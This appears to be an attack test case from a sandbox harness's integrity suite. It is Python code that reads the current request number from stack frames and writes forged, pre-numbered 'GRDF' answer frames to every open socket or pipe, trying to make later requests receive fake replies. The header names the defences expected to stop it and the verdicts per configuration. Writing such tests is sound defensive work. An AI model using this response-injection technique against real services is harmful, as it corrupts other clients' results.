"""
number = 5
family = "integrity"
what = "answer twice, so that the second answer is taken for that of the next request"
stopped_by = ["answers are numbered", "bytes nobody asked for are an error"]
verdicts = {full = ["passed", "bad_return"], contained = ["passed", "bad_return"], limited = ["passed", "bad_return"]}
"""

import json
import os
import stat
import struct
import sys


def request_number() -> int:
    frame = sys._getframe()
    while frame is not None:
        for value in list(frame.f_locals.values()):
            table = value if isinstance(value, dict) else getattr(value, "header", None)
            if isinstance(table, dict) and isinstance(table.get("n"), int):
                return table["n"]
        frame = frame.f_back
    return 0


def attack(targets: dict) -> str:
    number = request_number()
    frames = b""
    for ahead in range(6):
        header = json.dumps({"n": number + ahead, "ok": f"worthless: answer {ahead} ahead"}).encode()
        frames += b"GRDF" + struct.pack("<IIQ", 1, len(header), 0) + header
    for descriptor in range(3, 65):
        try:
            mode = os.fstat(descriptor).st_mode
        except OSError:
            continue
        if stat.S_ISSOCK(mode) or stat.S_ISFIFO(mode):
            os.write(descriptor, frames)
    return "stopped: the genuine answer follows"
